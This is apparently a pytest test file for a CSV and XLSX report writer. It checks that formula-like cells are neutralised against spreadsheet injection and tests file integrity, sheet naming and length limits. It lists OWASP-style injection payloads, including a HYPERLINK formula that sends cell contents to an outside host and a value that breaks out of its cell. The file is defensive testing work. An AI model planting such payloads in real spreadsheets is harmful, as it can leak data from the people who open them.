from __future__ import annotations

import csv
import math
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from onboard.errors import FileTrouble
from onboard.guard import guard, is_live, unguard
from onboard.reports import cells
from onboard.reports.cells import Page, write

# OWASP, "CSV Injection": cells that begin with one of these, and the full-width variants.
LIVE = ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)"]
# Payloads of that page's kind; the second starts a new cell by quote and separator.
PAYLOADS = ['=HYPERLINK("http://example.org?"&A1,"Error")', '=1+2";=1+2', "=1+2'\" ;,=1+2", " =1+1"]

ANY = st.text(st.characters(exclude_characters="\r"), max_size=20)
SOUND = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff"), max_size=20
)


def from_csv(file: Path) -> list[list[str]]:
    with file.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def from_xlsx(file: Path, sheet: int = 0) -> list[list[object]]:
    return list(CalamineWorkbook.from_path(file).get_sheet_by_index(sheet).iter_rows())


@pytest.mark.parametrize("text", [*LIVE, *PAYLOADS])
def test_no_cell_of_a_csv_file_is_live(tmp_path: Path, text: str) -> None:
    assert is_live(text)
    file = tmp_path / "a.csv"
    write(file, Page("P", ["Name", "City"], [[text, "Lima"]]))
    (_, (name, _city)) = from_csv(file)
    assert name.startswith("'")
    assert unguard(name) == text.replace("\r", "\n")
    line = file.read_text("utf-8-sig").split("\n", 1)[1]
    assert line.startswith("\"'")  # in quotes, so that no separator inside begins a new cell


@pytest.mark.parametrize("text", [*LIVE, *PAYLOADS, "http://example.org", "internal:A1", "1E5"])
def test_no_cell_of_a_workbook_is_live(tmp_path: Path, text: str) -> None:
    file = tmp_path / "a.xlsx"
    write(file, Page("P", ["Name", "City"], [[text, "Lima"]]))
    with zipfile.ZipFile(file) as packed:
        sheet = packed.read("xl/worksheets/sheet1.xml").decode()
        assert not any("rels" in name and "sheet" in name for name in packed.namelist())
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    assert from_xlsx(file)[1] == [text.replace("\r", "\n"), "Lima"]


@pytest.mark.parametrize("text", ["Ana", "'Okina", "O'Neil", "12-4", "a=b", "", "ana@example.org"])
def test_plain_texts_are_left_alone(text: str) -> None:
    assert guard(text) == text


@settings(max_examples=300)
@given(st.one_of(ANY, st.from_regex(r"'{0,3}\s?[=+@-]?.{0,3}", fullmatch=True)))
def test_guarding_can_be_undone_and_what_is_guarded_is_no_longer_live(text: str) -> None:
    assert unguard(guard(text)) == text
    assert not re.match(r"\s*[=+\-@＝＋－＠\t\r\n]", guard(text))


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(rows=st.lists(st.tuples(SOUND, SOUND), min_size=1, max_size=5))
def test_reading_back_gives_the_original(tmp_path: Path, rows: list[tuple[str, str]]) -> None:
    page = Page("P", ["One", "Two", "Three"], [[*row, "x"] for row in rows])
    write(tmp_path / "a.csv", page)
    write(tmp_path / "a.xlsx", page)
    wanted = [[*row, "x"] for row in rows]
    assert [[unguard(c) for c in row] for row in from_csv(tmp_path / "a.csv")[1:]] == wanted
    assert from_xlsx(tmp_path / "a.xlsx")[1:] == wanted


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=st.text(st.characters(), max_size=20))
def test_no_text_makes_a_broken_file(tmp_path: Path, text: str) -> None:
    for name in ("a.csv", "a.xlsx"):
        write(tmp_path / name, Page(text, [text, "b"], [[text, "x"]]))
    assert len(from_csv(tmp_path / "a.csv")) == 2
    assert len(from_xlsx(tmp_path / "a.xlsx")) == 2


def test_control_characters_are_taken_out() -> None:
    """XML 1.0 (fifth edition) section 2.2: Char."""
    every = "".join(map(chr, range(32))) + "\x7f\ufffe\uffff\ud800"
    assert cells.writable(every) == "\t\n\n\x7f\ufffd"


@pytest.mark.parametrize("letter", ["x", "😀"])
def test_a_cell_too_long_is_cut_and_says_so(tmp_path: Path, letter: str) -> None:
    """32,767 in a cell is the limit that spreadsheet programs state; they count UTF-16 units."""
    file = tmp_path / "a.xlsx"
    write(file, Page("P", ["A", "B"], [[letter * 40_000, "Lima"]]))
    text, city = from_xlsx(file)[1]
    assert city == "Lima"
    assert isinstance(text, str)
    assert text.endswith(f"{letter} … [cut: 40,000 characters in all]")
    assert 32_760 < len(text.encode("utf-16-le")) // 2 <= 32_767


def test_numbers_are_numbers_and_texts_of_digits_stay_texts(tmp_path: Path) -> None:
    write(
        tmp_path / "a.xlsx", Page("P", ["A", "B", "C"], [[17, "01002", None], [0.5, "1E5", True]])
    )
    assert from_xlsx(tmp_path / "a.xlsx")[1:] == [[17.0, "01002", ""], [0.5, "1E5", "True"]]
    write(tmp_path / "a.csv", Page("P", ["A", "B"], [[-17, "01002"]]))
    assert from_csv(tmp_path / "a.csv")[1] == ["-17", "01002"]
    write(tmp_path / "b.xlsx", Page("P", ["A", "B"], [[math.nan, "x"]]))


def test_more_rows_than_a_sheet_holds_go_on_in_a_further_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cells, "MOST_ROWS", 4)
    for count, sheets in ((2, [3]), (3, [4]), (4, [4, 2]), (7, [4, 4, 2])):
        file = tmp_path / "a.xlsx"
        write(file, Page("P", ["A"], ([n] for n in range(count))))
        book = CalamineWorkbook.from_path(file)
        assert [len(from_xlsx(file, n)) for n in range(len(book.sheet_names))] == sheets


def test_names_of_sheets_are_made_fit_and_unlike(tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    write(
        file, *[Page(name, ["A"], []) for name in ("a/b:[c]*?", "", "x" * 40, "x" * 35, "History")]
    )
    names = CalamineWorkbook.from_path(file).sheet_names
    assert names == ["a b  c", "Sheet", "x" * 31, "x" * 27 + " (2)", "History_"]


def test_headings_stay_in_sight_and_choices_are_lists(tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    write(file, Page("P", ["A", "B"], [["x", ""]], {"A": 30}, {"B": ["yes", "no"]}, frozenset("B")))
    with zipfile.ZipFile(file) as packed:
        sheet = packed.read("xl/worksheets/sheet1.xml").decode()
    assert 'state="frozen"' in sheet
    assert '<autoFilter ref="A1:B2"/>' in sheet
    assert re.search(r'<dataValidation type="list".*sqref="B2".*"yes,no"', sheet)


def test_what_cannot_be_written_is_trouble_and_leaves_nothing_behind(tmp_path: Path) -> None:
    page = Page("P", ["A"], [["x"]])
    with pytest.raises(FileTrouble, match=r"whose name ends in \.xlsx or \.csv"):
        write(tmp_path / "a.txt", page)
    with pytest.raises(FileTrouble, match="cannot be written"):
        write(tmp_path / "nowhere" / "a.csv", page)
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(FileTrouble, match="close it"):
        write(tmp_path / "folder.csv", page)
    assert [p.name for p in tmp_path.iterdir()] == ["folder.csv"]


@pytest.mark.parametrize(("name", "read"), [("a.csv", from_csv), ("a.xlsx", from_xlsx)])
def test_a_file_is_written_whole_or_not_at_all(
    tmp_path: Path, name: str, read: Callable[[Path], list[list[object]]]
) -> None:
    file = tmp_path / name
    write(file, Page("P", ["A"], [["old"]]))

    def rows():  # type: ignore[no-untyped-def]
        yield ["new"]
        raise RuntimeError

    with pytest.raises(RuntimeError):
        write(file, Page("P", ["A"], rows()))
    assert read(file) == [["A"], ["old"]]
    assert [p.name for p in tmp_path.iterdir()] == [name]
